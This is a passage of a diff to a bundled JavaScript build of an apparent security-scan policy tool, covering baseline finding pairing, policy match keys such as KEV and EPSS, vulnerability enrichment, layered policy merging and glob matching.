+
+
+/**
+ * Pairs code that got instances with keys, or lost them (`count` to `for_each`): the findings of one piece of code are one thing then, however
+ * many instances there are, as more of `count` are. Told apart by their block, then by their order in the file; the surplus stays.
+ */
+function pairUnits(sides) {
+    const twins = new Map(sides.twins);
+    const bases = unitsByKey(sides.base);
+    for (const [key, units] of unitsByKey(sides.head)) {
+        const others = bases.get(key) ?? [];
+        if (!haveSwapped(units, others))
+            continue;
+        for (const [unit, other] of matched(units, others))
+            for (const one of unit)
+                twins.set(one, other);
+    }
+    const taken = new Set(twins.values());
+    return {
+        head: sides.head.filter((one) => !twins.has(one)),
+        base: sides.base.filter((one) => !taken.has(one)),
+        twins,
+    };
+}
+const haveSwapped = (heads, bases) => {
+    const [now, before] = [heads.flat(), bases.flat()];
+    return (before.length > 0 &&
+        [true, false].some((keyed) => now.every((one) => isInstance(one) === keyed) && before.every((one) => isInstance(one) !== keyed)));
+};
+function unitsByKey(findings) {
+    const groups = groupBy(findings.filter((one) => instanceKey(one) !== undefined), (one) => instanceKey(one) ?? '');
+    return new Map([...groups].map(([key, group]) => [key, unitsOf(group)]));
+}
+const unitsOf = (findings) => [...groupBy(findings, ({ place }) => `${place.path} ${String(place.region?.startLine ?? 0).padStart(9, '0')}`)]
+    .sort(([a], [b]) => order_compareText(a, b))
+    .map(([, unit]) => unit);
+function matched(units, others) {
+    const free = [...others];
+    const take = (fits) => {
+        const index = free.findIndex(fits);
+        return index < 0 ? undefined : free.splice(index, 1)[0]?.[0];
+    };
+    const digest = ([first]) => first?.place.block?.digest;
+    const same = units.map((unit) => [unit, take((other) => digest(other) !== undefined && digest(other) === digest(unit))]);
+    return same.flatMap(([unit, twin]) => {
+        const found = twin ?? take(() => true);
+        return found === undefined ? [] : [[unit, found]];
+    });
+}
+
+;// CONCATENATED MODULE: ./build/js/core/baseline/like-pairs.js
+
+
+const separator = '\u001f';
+const key = (...parts) => parts.some((part) => part === undefined) ? undefined : parts.join(separator);
+/** What the finding is about, without where: `undefined` for what cannot be moved or renamed. */
+const what = ({ kind, rule, subject: { package: dependency, license } }) => {
+    switch (kind) {
+        case 'misconfiguration':
+        case 'secret':
+            return key(kind, rule.id);
+        case 'vulnerability':
+            return key(kind, rule.id, dependency?.purl);
+        case 'license':
+            return key(kind, license?.spdx, dependency?.purl);
+        case 'integrity':
+            return undefined;
+    }
+};
+/** The text that is wrong: the block, or where there is none the line, in which every secret is starred. */
+const contentOf = ({ place }) => place.block?.digest ?? place.snippet;
+/** What people are shown of it, without the line that holds its name. */
+function bodyOf({ place: { snippet, block, region } }) {
+    const lines = snippet?.split('\n') ?? [];
+    const body = block !== undefined && region?.startLine === block.startLine ? lines.slice(1) : lines;
+    return body.length === 0 ? undefined : body.join('\n');
+}
+/** `module.a["x"].aws_s3_bucket.b[0]` without what is in brackets; a key may hold any character. */
+const withoutKeys = (address) => address.replaceAll(/\["(?:[^"\\]|\\.)*"\]|\[\d+\]/g, '');
+const resourceKey = (finding, of) => {
+    const { resource } = finding.subject;
+    return resource === undefined ? undefined : key(what(finding), resource.format, resource.part ?? '', ...of(resource));
+};
+/** The same code with another number of instances. */
+const instanceKey = (finding) => resourceKey(finding, ({ stack, type, address }) => [stack, type, withoutKeys(address)]);
+const isInstance = ({ subject: { resource } }) => resource !== undefined && withoutKeys(resource.address) !== resource.address;
+/** A package that moved with its manifest has no block: it is the same advisory for the same package. */
+const isOfPackage = ({ kind }) => kind === 'vulnerability' || kind === 'license';
+/** Where it is: what moves or gets another name leaves this place. A file that only lost a line is still there. */
+function placeOf({ subject: { resource, package: dependency }, place }) {
+    if (resource !== undefined)
+        return `${resource.stack}${separator}${resource.address}`;
+    return `${place.path}${separator}${dependency?.purl ?? ''}`;
+}
+/**
+ * Findings that may have moved or got another name: nothing is left at the old place, nothing was at the new one, so that mending one
+ * thing does not pay for another that was there all the time. A file without resources has to be gone itself.
+ */
+function movable(sides, all, gone) {
+    const [now, before] = [new Set(all.head.map(placeOf)), new Set(all.base.map(placeOf))];
+    const hasLeft = (finding) => finding.subject.resource !== undefined || gone.has(finding.place.path);
+    return {
+        head: sides.head.filter((one) => !before.has(placeOf(one))),
+        base: sides.base.filter((one) => !now.has(placeOf(one)) && hasLeft(one)),
+        twins: sides.twins,
+    };
+}
+/**
+ * Pairs what has another identity and is the same all the same, the surest likeness first; what fits more than one thing stays new. `all`
+ * are the findings of both sides, `gone` the files that only the base holds.
+ */
+function pairLike(sides, all, gone) {
+    const sameContentInStack = (finding) => key(resourceKey(finding, ({ stack }) => [stack]), contentOf(finding));
+    const sameContent = (finding) => isOfPackage(finding) ? what(finding) : key(what(finding), contentOf(finding));
+    const sameBody = (finding) => key(resourceKey(finding, ({ stack, type }) => [stack, type]), bodyOf(finding));
+    return [
+        [sameContentInStack, noneMore],
+        [sameBody, onlyOneToOne],
+        [sameContent, onlyOneToOne],
+    ].reduce((left, [keyOf, pairing]) => pairBy(left, keyOf, pairing), movable(pairUnits(sides), all, gone)).twins;
+}
+
+;// CONCATENATED MODULE: ./build/js/core/baseline/compare.js
+
+
+
+/**
+ * Tells what a change introduces: findings without their like in the base (DESIGN 7). First the same identity, then the same content, then a
+ * rename of one thing into one other; what is ambiguous is new. What a scanner found that has nothing to be compared with is new too.
+ */
+function compareWithBase(findings, head, base) {
+    const older = mergeFindings(base.runs.flatMap((run) => findingsOf(run, head)));
+    const all = { head: findings, base: older };
+    const twins = pairLike(pairSame({ ...all, twins: new Map() }), all, new Set(base.gone));
+    return { twinOf: (finding) => twins.get(finding) };
+}
+/** A scanner that reads the same in both found there what it found here. */
+const findingsOf = ({ scanner, from, findings }, head) => from === 'head' ? head.filter((run) => run.scanner === scanner).flatMap((run) => run.findings) : findings;
+
+;// CONCATENATED MODULE: ./build/js/core/policy/match-key.js
+/**
+ * The one table of match keys. Types, decoding, JSON Schema, the reference in docs/policy.md and matching are made from
+ * it: to add a key, add an entry. An entry that reads no field of a finding does not compile.
+ */
+const matchKeys = [
+    {
+        key: 'kind',
+        reads: ['kind'],
+        compares: 'kind',
+        docs: 'What sort of finding it is.',
+        example: 'vulnerability',
+    },
+    {
+        key: 'severity',
+        reads: ['severity'],
+        compares: 'severity',
+        docs: 'How bad it is: one severity, or that one and everything above (`>=`) or below (`<=`) it.',
+        example: '">=high"',
+    },
+    {
+        key: 'rule',
+        reads: ['rule.id', 'rule.concept', 'sources.ruleId', 'advisory.ids'],
+        compares: 'rule',
+        docs: 'A rule by any of its names: concept, id in any tool, older id of the same rule, or advisory (CVE, GHSA).',
+        example: 'CKV_AWS_20',
+        narrows: 'what',
+    },
+    {
+        key: 'concept',
+        reads: ['rule.concept'],
+        compares: 'concept',
+        docs: 'One control, whatever each tool calls it.',
+        example: 's3-block-public-acls',
+        narrows: 'what',
+        kinds: ['misconfiguration'],
+    },
+    {
+        key: 'group',
+        reads: ['rule.concept'],
+        compares: 'group',
+        docs: 'Several controls that serve one purpose, by the name of their group.',
+        example: 's3-public-access',
+        kinds: ['misconfiguration'],
+    },
+    {
+        key: 'tool',
+        reads: ['sources.tool'],
+        compares: 'tool',
+        docs: 'A tool that reports it; others may report it too.',
+        example: 'checkov',
+    },
+    {
+        key: 'path',
+        reads: ['place.path', 'place.related.path'],
+        compares: 'path',
+        docs: 'The file, from the root of the scan, or a file that leads to it, such as the caller of a module.',
+        example: '"infra/prod/**"',
+        narrows: 'where',
+    },
+    {
+        key: 'format',
+        reads: ['subject.resource.format'],
+        compares: 'format',
+        docs: 'The format of the file that holds the resource.',
+        example: 'terraform',
+        kinds: ['misconfiguration'],
+    },
+    {
+        key: 'resource',
+        reads: ['subject.resource.address', ['subject.resource.type', 'subject.resource.address']],
+        compares: 'address',
+        docs: 'The address of the resource, alone or as `type.address`. Brackets mean themselves.',
+        example: '"module.site.aws_s3_bucket.*"',
+        narrows: 'where',
+        kinds: ['misconfiguration'],
+    },
+    {
+        key: 'package',
+        reads: ['subject.package.purl', 'subject.package.name'],
+        compares: 'package',
+        docs: 'The package, by its purl or its name, both without a version.',
+        example: '"pkg:npm/lodash"',
+        narrows: 'where',
+        kinds: ['vulnerability', 'license'],
+    },
+    {
+        key: 'image',
+        reads: ['subject.image.name'],
+        compares: 'image',
+        docs: 'The image, by its name without tag and digest.',
+        example: '"ghcr.io/acme/*"',
+        narrows: 'where',
+    },
+    {
+        key: 'id',
+        reads: ['identity.logical', 'identity.also'],
+        compares: 'id',
+        docs: 'The id that a report shows for one finding: 8 or more hex digits.',
+        example: '"7f3a91c2"',
+        narrows: 'what',
+        waiversOnly: true,
+    },
+    {
+        key: 'cwe',
+        reads: ['advisory.cwe'],
+        compares: 'cwe',
+        docs: 'The weakness behind a vulnerability.',
+        example: 'CWE-79',
+        kinds: ['vulnerability'],
+    },
+    {
+        key: 'license',
+        reads: ['subject.license.spdx', 'subject.license.category'],
+        compares: 'license',
+        docs: 'The licence by its SPDX id, or its category: `forbidden`, `restricted`, `reciprocal`, `notice`, `permissive`, `unencumbered`, `unknown`.',
+        example: '"AGPL-*"',
+        kinds: ['license'],
+    },
+    {
+        key: 'fix',
+        reads: ['subject.package.fixed'],
+        compares: 'fix',
+        docs: 'Whether there is a version of the package without the vulnerability.',
+        example: 'available',
+        onlyWith: 'advisory.ids',
+        kinds: ['vulnerability'],
+    },
+    {
+        key: 'cvss',
+        reads: ['advisory.cvss'],
+        compares: 'score',
+        docs: 'The CVSS base score. A vulnerability without one does not fit.',
+        example: '">=7.5"',
+        kinds: ['vulnerability'],
+    },
+    {
+        key: 'kev',
+        reads: ['advisory.kev.added'],
+        compares: 'known',
+        docs: 'Whether the vulnerability is known to be exploited: it is in the catalogue of CISA.',
+        example: 'true',
+        onlyWith: 'advisory.ids',
+        kinds: ['vulnerability'],
+        feed: 'kev',
+    },
+    {
+        key: 'epss',
+        reads: ['advisory.epss'],
+        compares: 'probability',
+        docs: 'The probability that it is exploited within 30 days. A vulnerability that EPSS does not list does not fit.',
+        example: '">=0.5"',
+        kinds: ['vulnerability'],
+        feed: 'epss',
+    },
+    {
+        key: 'age',
+        reads: ['advisory.published'],
+        compares: 'age',
+        docs: 'Days since the advisory was published. A vulnerability without the day does not fit.',
+        example: '">30d"',
+        kinds: ['vulnerability'],
+    },
+    {
+        key: 'introduced',
+        reads: ['introduced'],
+        compares: 'truth',
+        docs: 'Whether the change brings it. Everything is introduced where there is nothing to compare with.',
+        example: 'true',
+    },
 ];
+/** The values of a key by its name. */
+const valuesOf = (match, key) => {
+    const { any: _any, ...keys } = match;
+    const given = keys;
+    return Object.hasOwn(given, key) ? given[key] : undefined;
+};
+/** The same table, each entry seen as what all entries have. */
+const allMatchKeys = matchKeys;
+const ruleMatchKeys = allMatchKeys.filter((entry) => entry.waiversOnly !== true);
 
 ;// CONCATENATED MODULE: ./build/js/core/policy/policy.js
-/** What the floor can hold: severities, and `secret` whatever its severity. */
-const floorNames = ['critical', 'high', 'medium', 'low', 'secret'];
+/** What the floor can hold: severities, and `secret` and `kev` (known to be exploited) whatever the severity. */
+const floorNames = ['critical', 'high', 'medium', 'low', 'secret', 'kev'];
+/** Data that a policy can ask for: what is exploited, and how likely. */
+const feedNames = ['kev', 'epss'];
+/** All data with an age. */
+const dataNames = ['vulnerability-db', ...feedNames];
 const ruleActions = ['block', 'warn', 'note'];
 const toolErrorActions = ['error', 'warn'];
 const unscannedActions = ['note', 'warn', 'error'];
 const inlineSkipActions = ['below-block', 'honour', 'ignore'];
+const judgeScopes = ['introduced', 'everything'];
+const staleDataActions = ['error', 'warn'];
+const waiverFields = ['owner', 'reason', 'expires'];
+/** What a repository's policy may do beside the organisation's; named in the organisation's policy alone. */
+const repositoryRights = ['tighten', 'waive'];
 /** What holds without a policy file, and for every key that a file leaves out. */
 const defaultPolicy = {
     version: 1,
@@ -56245,9 +56979,81 @@ const defaultPolicy = {
     exclude: [],
     tools: new Map(),
     checks: new Map(),
-    settings: { onToolError: 'error', onUnscanned: 'note', unknownSeverity: 'medium', inlineSkips: 'below-block' },
+    settings: {
+        onToolError: 'error',
+        onUnscanned: 'note',
+        unknownSeverity: 'medium',
+        inlineSkips: 'below-block',
+        judge: 'introduced',
+        onStaleData: 'error',
+        maxAgeMs: new Map(),
+    },
+    severity: [],
     rules: [],
+    waiverRules: { require: ['owner', 'reason', 'expires'], maxDays: {}, warnBeforeDays: 14, graceDays: 3 },
 };
+
+;// CONCATENATED MODULE: ./build/js/core/policy/feeds-needed.js
+
+
+/** The feeds that a match cannot do without: while one is absent, nobody knows what fits. In the order of `feedNames`. */
+function feedsRead(match) {
+    const asked = new Set(allMatchKeys.filter(({ key }) => valuesOf(match, key) !== undefined).map(({ feed }) => feed));
+    const inside = new Set(match.any?.flatMap((branch) => feedsRead(branch)));
+    return feedNames.filter((feed) => asked.has(feed) || inside.has(feed));
+}
+/** Everything in a policy that needs a feed, in the order of the file's keys. A feed that is absent is a problem, never "no match". */
+const feedsNeeded = ({ block, severity, rules }) => [
+    ...(block.includes('kev') ? [{ feed: 'kev', by: '`block`' }] : []),
+    ...severity.flatMap(({ match }, index) => feedsRead(match).map((feed) => ({ feed, by: `entry ${index + 1} of \`severity\`` }))),
+    ...rules.flatMap(({ id, match }) => feedsRead(match).map((feed) => ({ feed, by: `the rule \`${id}\`` }))),
+];
+
+;// CONCATENATED MODULE: ./build/js/core/enrich/enrich.js
+
+/** What is known about a vulnerability by any of its CVEs; an advisory without one cannot be in these feeds. */
+function enrich(finding, { kev, epss }) {
+    const { advisory } = finding;
+    if (advisory === undefined)
+        return finding;
+    const cves = advisory.ids.filter((id) => id.startsWith('CVE-'));
+    const exploited = cves.flatMap((id) => kev?.entries.get(id) ?? [])[0];
+    const probabilities = cves.flatMap((id) => epss?.entries.get(id) ?? []);
+    if (exploited === undefined && probabilities.length === 0)
+        return finding;
+    return {
+        ...finding,
+        advisory: {
+            ...advisory,
+            ...(exploited === undefined ? {} : { kev: exploited }),
+            ...(probabilities.length === 0 ? {} : { epss: Math.max(...probabilities) }),
+        },
+    };
+}
+const dataOf = ({ kev, epss }) => [kev, epss].flatMap((feed) => (feed === undefined ? [] : [feed.data]));
+/** A policy that asks for data which is not there decides nothing by it: a problem of the policy, never a silent "no match". */
+const missingFeeds = (layers, feeds) => layers.flatMap(({ policy }) => feedsNeeded(policy)
+    .filter(({ feed }) => feeds[feed] === undefined)
+    .map(({ feed, by }) => ({
+    code: 'DATA_MISSING',
+    sentence: `In the policy, ${by} asks for ${feed.toUpperCase()}, and there is no such data in this run, so nobody knows what fits.`,
+    hint: `Give the data with the input \`${feed}\`, on a command line \`--${feed} FILE\`.`,
+})));
+
+;// CONCATENATED MODULE: ./build/js/core/verdict.js
+const verdicts = ['pass', 'warn', 'block', 'error'];
+const modes = ['audit', 'enforce'];
+const actions = ['block', 'warn', 'note', 'waive'];
+const layerNames = ['organisation', 'repository', 'default'];
+/** `refused`: it is not what `waiver-rules` ask for, and does not count. `over-broad`: it lifts more findings than one exception should. */
+const waiverStates = ['expired', 'in-grace', 'expiring', 'unused', 'over-broad', 'refused'];
+/** All judged findings, worst action first. */
+const allJudged = (verdict) => [
+    ...verdict.blocking,
+    ...verdict.warnings,
+    ...verdict.noted,
+    ...verdict.waived,
+];
 
 ;// CONCATENATED MODULE: ./build/js/core/policy/layers.js
 
@@ -56256,6 +57062,7 @@ const defaultPolicy = {
 
 /** From the mildest to the strictest. */
 const toolErrorScale = ['warn', 'error'];
+const staleDataScale = ['warn', 'error'];
 const inlineSkipScale = ['honour', 'below-block', 'ignore'];
 const actionScale = ['note', 'warn', 'block'];
 const strictest = ([first, ...others], scale) => others.reduce((worst, next) => (scale.indexOf(next) > scale.indexOf(worst) ? next : worst), first);
@@ -56263,16 +57070,54 @@ const each = ([first, ...others], read) => [
     read(first.policy),
     ...others.map(({ policy }) => read(policy)),
 ];
-/** The first of those whose action is the strictest. */
-const strictestDecision = (decisions) => decisions.reduce((worst, next) => actionScale.indexOf(next.action) > actionScale.indexOf(worst.action) ? next : worst);
+/** The first of those whose action is the strictest; of warnings the one that blocks soonest. */
+const strictestDecision = (decisions) => decisions.reduce((worst, next) => {
+    const difference = actionScale.indexOf(next.action) - actionScale.indexOf(worst.action);
+    return difference > 0 || (difference === 0 && isSooner(next, worst)) ? next : worst;
+});
+const isSooner = ({ blocksFrom }, than) => blocksFrom !== undefined && (than.blocksFrom === undefined || blocksFrom < than.blocksFrom);
 /** `unknownSeverity` is what is shown: each layer decides by its own. */
 const strictestSettings = (layers) => ({
     onToolError: strictest(each(layers, ({ settings }) => settings.onToolError), toolErrorScale),
     onUnscanned: strictest(each(layers, ({ settings }) => settings.onUnscanned), unscannedActions),
     unknownSeverity: each(layers, ({ settings }) => settings.unknownSeverity).reduce((worst, next) => compareSeverity(next, worst) < 0 ? next : worst),
     inlineSkips: strictest(each(layers, ({ settings }) => settings.inlineSkips), inlineSkipScale),
+    judge: strictest(each(layers, ({ settings }) => settings.judge), judgeScopes),
+    onStaleData: strictest(each(layers, ({ settings }) => settings.onStaleData), staleDataScale),
+    maxAgeMs: shortest(layers.map(({ policy }) => policy.settings.maxAgeMs)),
 });
-const strictestMode = (layers) => strictest(each(layers, ({ mode }) => mode), modes);
+/** Everything that any layer asks for, and the shortest times of all. */
+function strictestWaiverRules(layers) {
+    const all = layers.map(({ policy }) => policy.waiverRules);
+    const days = severities.flatMap((severity) => {
+        const most = all.flatMap(({ maxDays }) => maxDays[severity] ?? []);
+        return most.length === 0 ? [] : [[severity, Math.min(...most)]];
+    });
+    return {
+        require: waiverFields.filter((field) => all.some(({ require }) => require.includes(field))),
+        maxDays: Object.fromEntries(days),
+        warnBeforeDays: Math.max(...all.map(({ warnBeforeDays }) => warnBeforeDays)),
+        graceDays: Math.min(...all.map(({ graceDays }) => graceDays)),
+    };
+}
+/** Whether a waiver of the repository lifts what the organisation's policy decides. */
+const mayWaive = ([first]) => first.layer !== 'organisation' || (first.policy.repositoriesMay ?? repositoryRights).includes('waive');
+/** The layers that decide: a repository that may not tighten has no say of its own. */
+const decidingLayers = ([first, ...others]) => (first.policy.repositoriesMay ?? repositoryRights).includes('tighten') ? [first, ...others] : [first];
+/** The shortest of each. */
+function shortest(all) {
+    const found = new Map();
+    for (const [name, age] of all.flatMap((ages) => [...ages]))
+        found.set(name, Math.min(age, found.get(name) ?? age));
+    return found;
+}
+const modeOf = (mode, properties) => {
+    if (typeof mode === 'string')
+        return mode;
+    const said = properties.get(mode.property);
+    return modes.find((known) => known === said) ?? mode.default;
+};
+const strictestMode = (layers, properties = new Map()) => strictest(each(layers, ({ mode }) => modeOf(mode, properties)), modes);
 /** Of the first layer that names one. */
 const contactOf = (layers) => layers.map(({ policy }) => policy.contact).find((contact) => contact !== undefined);
 /**
@@ -56296,7 +57141,10 @@ function planPart([first, ...others]) {
 }
 const mostNamed = 10;
 /** What layers below the first would leave unseen, in words; none of it counts. */
-function ignoredIn([, ...others]) {
+function ignoredIn(layers) {
+    const [, ...others] = layers;
+    if (others.length > decidingLayers(layers).length - 1)
+        return ["The repository's policy does not count: the organisation's policy does not let repositories tighten it."];
     return others.flatMap(({ policy: { exclude, tools } }) => {
         const off = [...tools].filter(([, settings]) => settings.off).map(([tool]) => tool);
         return [...named('`exclude`', exclude), ...off.sort(order_compareText).map((tool) => `\`${tool}: off\``)].map((what) => `The repository's ${what} does not count: only the organisation's policy says what is left out.`);
@@ -56307,27 +57155,1255 @@ const named = (key, values) => {
     return values.length === 0 ? [] : [`${key} (${values.slice(0, mostNamed).join(', ')}${more})`];
 };
 
-;// CONCATENATED MODULE: ./build/js/core/policy/reading/duplicate.js
-
-/** A problem for every id that an earlier entry has; reports name rules and waivers by id. */
-function findDuplicates(ids) {
-    const first = new Map();
-    return ids.flatMap(({ id, ...place }) => {
-        const earlier = first.get(id);
-        if (earlier === undefined) {
-            first.set(id, { id, ...place });
-            return [];
+;// CONCATENATED MODULE: ./build/js/core/policy/glob.js
+/** At most two groups of two to eight alternatives, not nested: what is longer is said by a list. */
+const bracesPattern = /^[^{}]*(?:\{[^{},]*(?:,[^{},]*){1,7}\}[^{}]*){0,2}$/u;
+/** True for a text that any of the globs matches. Compile once, use for every finding. */
+function compileGlobs(globs) {
+    const compiled = globs.flatMap((glob) => expandBraces(glob.normalize('NFC'))).map(toParts);
+    return (text) => {
+        const parts = text.normalize('NFC').split('/');
+        return compiled.some((glob) => matches(glob, parts, anyParts, fitsPart));
+    };
+}
+/** A glob with braces as the globs it stands for. */
+function expandBraces(glob) {
+    const open = glob.indexOf('{');
+    const close = glob.indexOf('}', open);
+    if (open < 0 || close < 0)
+        return [glob];
+    const tails = expandBraces(glob.slice(close + 1));
+    const alternatives = glob.slice(open + 1, close).split(',');
+    return alternatives.flatMap((middle) => tails.map((tail) => glob.slice(0, open) + middle + tail));
+}
+const anyParts = Symbol('**');
+function toParts(glob) {
+    const parts = glob.split('/');
+    const isInside = parts.length > 1 && parts.at(-1) === '**';
+    return [...parts, ...(isInside ? ['*'] : [])].map((part) => (part === '**' ? anyParts : compilePart(part)));
+}
+function compilePart(part) {
+    if (part === '*')
+        return () => true;
+    if (!/[*?]/.test(part))
+        return (text) => text === part;
+    const characters = part.replace(/\*+/g, '*').split('');
+    return (text) => matches(characters, text, '*', fitsCharacter);
+}
+const fitsPart = (part, text) => part !== anyParts && part(text);
+const fitsCharacter = (wanted, character) => wanted === '?' || wanted === character;
+/**
+ * The classic two-pointer match: a star first takes nothing and, when the rest fails, one item more. Only the last
+ * star has to be tried again, since taking as little as possible for those before it leaves the most for the rest.
+ */
+function matches(glob, texts, star, fits) {
+    let at = 0;
+    let lastStar = -1;
+    let taken = 0;
+    for (let next = 0; next < texts.length;) {
+        const item = glob[at];
+        if (item === star) {
+            lastStar = at++;
+            taken = next;
         }
-        const where = earlier.file === place.file || earlier.file === undefined ? '' : ` of ${earlier.file}`;
-        return [
-            {
-                ...place,
-                sentence: `The id ${code(id)} is taken: line ${earlier.line}${where} has it too.`,
-                hint: 'Give each its own id.',
-            },
-        ];
+        else if (item !== undefined && fits(item, texts[next] ?? '')) {
+            at++;
+            next++;
+        }
+        else if (lastStar >= 0) {
+            at = lastStar + 1;
+            next = ++taken;
+        }
+        else
+            return false;
+    }
+    while (glob[at] === star)
+        at++;
+    return at === glob.length;
+}
+
+;// CONCATENATED MODULE: ./build/js/core/policy/comparing/comparison.js
+const isText = (found) => typeof found === 'string';
+const isNumber = (found) => typeof found === 'number';
+const isTruth = (found) => typeof found === 'boolean';
+const comparison_never = () => false;
+
+;// CONCATENATED MODULE: ./build/js/core/policy/comparing/globs.js
+
+
+
+/** One demand at a time: a text that fails the first is not told the others. */
+const demand = (error) => ({ error, abort: true });
+const globText = () => schemas_string()
+    .regex(/^[^\p{Cc}]{1,256}$/u, demand('be 1 to 256 characters on one line'))
+    .regex(/^(?!!)/u, demand('say what it means, since a glob cannot be turned round with `!`'))
+    .regex(bracesPattern, demand('use braces as in `{a,b}`: at most two groups, each of two to eight words, none in another'));
+/** A glob for files; also the values of `exclude`. */
+const pathGlob = globText().regex(/^(?!\/|\.{1,2}\/)(?!.*\/$)[^\\]*$/u, demand('be files seen from the root of the scan, such as `infra/prod/**`'));
+const packageGlob = globText().regex(/^(?!.*[^/]@)/u, demand('name the package without its version'));
+/** The colon of a port comes before a slash. */
+const imageGlob = globText().regex(/^(?!.*@)(?!.*:[^/]*$)/u, demand('name the image without its tag and digest'));
+const asWritten = (text) => text;
+/** In a key such as `["a/b"]` a slash separates nothing, so that `*` stands for any key. */
+const withoutKeySlashes = (address) => address.replace(/\["[^"]*"\]/g, (key) => key.replaceAll('/', '\u001f'));
+/** purls encode what names spell out: `pkg:npm/%40acme/ui` is `pkg:npm/@acme/ui`. */
+const decoded = (purl) => {
+    try {
+        return decodeURIComponent(purl);
+    }
+    catch {
+        return purl;
+    }
+};
+/** SPDX tells ids apart whatever their case, and a slash in a licence's name separates nothing. */
+const licenseName = (name) => name.toLowerCase().replaceAll('/', '\u001f');
+/** Globs; `hasAll` when every finding has the field. */
+const globs = (schema, normalise, { docs = 'glob', hasAll = false } = {}) => ({
+    schema,
+    docs,
+    isValue: isText,
+    compile: (values) => {
+        const matches = compileGlobs(values.map(normalise));
+        return (found) => found.some((text) => isText(text) && matches(normalise(text)));
+    },
+    covers: (wide, narrow) => {
+        const outer = wide.map(normalise).flatMap(expandBraces).map(toHolder);
+        return narrow.flatMap((glob) => expandBraces(normalise(glob))).every((inner) => outer.some((holds) => holds(inner)));
+    },
+    isEverything: (values) => hasAll && values.includes('**'),
+});
+const hasWildcard = (glob) => /[*?]/.test(glob);
+/** Whether everything that another glob fits fits this one. The simple cases only: the same glob, a text without wildcards, what is in a folder. */
+function toHolder(outer) {
+    if (outer === '**')
+        return () => true;
+    if (!hasWildcard(outer))
+        return (inner) => inner === outer;
+    const matches = compileGlobs([outer]);
+    const folder = outer.endsWith('/**') ? outer.slice(0, -2) : undefined;
+    return (inner) => inner === outer ||
+        (!hasWildcard(inner) && matches(inner)) ||
+        (folder !== undefined && inner.length > folder.length && inner.startsWith(folder));
+}
+
+;// CONCATENATED MODULE: ./build/js/core/policy/comparing/numbers.js
+
+
+const operators = ['>=', '<=', '>', '<'];
+const boundOf = (text) => {
+    const operator = operators.find((known) => text.startsWith(known)) ?? '>=';
+    return { operator, value: Number.parseFloat(text.slice(operator.length)) };
+};
+function fits({ operator, value }, number) {
+    switch (operator) {
+        case '>=':
+            return number >= value;
+        case '<=':
+            return number <= value;
+        case '>':
+            return number > value;
+        case '<':
+            return number < value;
+    }
+}
+/** Both look the same way, and the narrow one begins no earlier. */
+function isWithin(narrow, wide) {
+    if (narrow.operator.charAt(0) !== wide.operator.charAt(0))
+        return false;
+    return narrow.value === wide.value
+        ? wide.operator.length >= narrow.operator.length
+        : fits({ ...wide, operator: wide.operator.startsWith('>') ? '>' : '<' }, narrow.value);
+}
+const bounded = (toBound) => (wide, narrow) => narrow.every((inner) => wide.some((outer) => isWithin(toBound(inner), toBound(outer))));
+const written = (value, demand) => schemas_string().regex(new RegExp(`^(?:>=|<=|>|<)(?:${value})$`, 'u'), demand);
+/** A number with one bound; `value` says as a regular expression which numbers there are. A finding without the number does not fit. */
+const bound = (value, example, docs) => ({
+    schema: () => written(value, `be a comparison such as \`${example}\`, ${docs}`),
+    docs: `comparison, ${docs}`,
+    isValue: isNumber,
+    compile: (values) => {
+        const bounds = values.map(boundOf);
+        return (found) => found.some((number) => isNumber(number) && bounds.some((one) => fits(one, number)));
+    },
+    covers: bounded(boundOf),
+    isEverything: comparison_never,
+});
+const millisecondsOfDay = 86_400_000;
+const ageOf = (text) => {
+    const { operator, value } = boundOf(text);
+    return { operator, value: text.endsWith('w') ? value * 7 : value };
+};
+/** How many days ago a day was, to today. A finding without the day does not fit. */
+const age = {
+    schema: () => written('\\d{1,4}[dw]', 'be a comparison with days or weeks, such as `>30d` or `<=2w`'),
+    docs: 'comparison with days (`d`) or weeks (`w`)',
+    isValue: isText,
+    compile: (values, { today }) => {
+        const bounds = values.map(ageOf);
+        const daysSince = (day) => (Date.parse(today) - Date.parse(day)) / millisecondsOfDay;
+        return (found) => found.some((day) => isText(day) && bounds.some((one) => fits(one, daysSince(day))));
+    },
+    covers: bounded(ageOf),
+    isEverything: comparison_never,
+};
+
+;// CONCATENATED MODULE: ./build/js/core/policy/comparing/sets.js
+
+const isSuperset = (wide, narrow) => {
+    const all = new Set(wide);
+    return narrow.every((text) => all.has(text));
+};
+/** Fits the very texts that the values stand for. */
+const oneOf = ({ schema, docs, expand = (values) => values, universe }) => ({
+    schema,
+    docs,
+    isValue: isText,
+    compile: (values, { names }) => {
+        const wanted = new Set(expand(values, names));
+        return (found) => found.some((text) => wanted.has(text));
+    },
+    covers: (wide, narrow, names) => isSuperset(expand(wide, names), expand(narrow, names)),
+    isEverything: (values) => universe !== undefined && isSuperset(expand(values, noNames), universe),
+    expand,
+});
+/** No set that holds everything depends on names. */
+const noNames = { tools: [], formats: [], canonicalRules: () => [] };
+/** Whether a finding has the field at all: `yes` when it does. */
+const presence = (yes, no, schema, docs) => ({
+    schema,
+    docs,
+    isValue: isText,
+    compile: (values) => (found) => values.includes(found.length > 0 ? yes : no),
+    covers: isSuperset,
+    isEverything: comparison_never,
+});
+/** A field that is true or false. */
+const truth = (schema) => ({
+    schema,
+    docs: 'true or false',
+    isValue: isTruth,
+    compile: (values) => (found) => found.some((value) => values.includes(String(value))),
+    covers: isSuperset,
+    isEverything: (values) => isSuperset(values, ['true', 'false']),
+});
+
+;// CONCATENATED MODULE: ./build/js/core/policy/comparing/comparisons.js
+
+
+
+
+
+
+/** `high` alone, or `>=high` and `<=high`; `>` and `<` are left out, because `>critical` would never match. */
+const severityConditions = ['', '>=', '<='].flatMap((operator) => severities.map((severity) => operator + severity));
+const fitsSeverity = (condition, severity) => {
+    const limit = condition.replace(/^[<>]=/, '');
+    if (!isSeverity(limit) || !isSeverity(severity))
+        return false;
+    if (condition.startsWith('>='))
+        return isAtLeast(severity, limit);
+    return condition.startsWith('<=') ? isAtLeast(limit, severity) : severity === limit;
+};
+/** One of these names; where there is none, nothing is right. */
+const comparisons_named = (names) => (names.length === 0 ? never() : schemas_enum(names));
+const conceptName = schemas_string().regex(/^[a-z0-9-]{1,100}$/u, 'be the name of a concept, such as `s3-block-public-acls`');
+const cweNumber = union([
+    schemas_string().regex(/^(?:CWE-)?[1-9]\d{0,4}$/u, 'be a weakness such as CWE-79 or 79'),
+    schemas_int('be a whole number').min(1).max(99_999),
+])
+    .transform((value) => `CWE-${String(value).replace('CWE-', '')}`);
+const trueOrFalse = () => schemas_boolean().transform(String);
+const comparisons = {
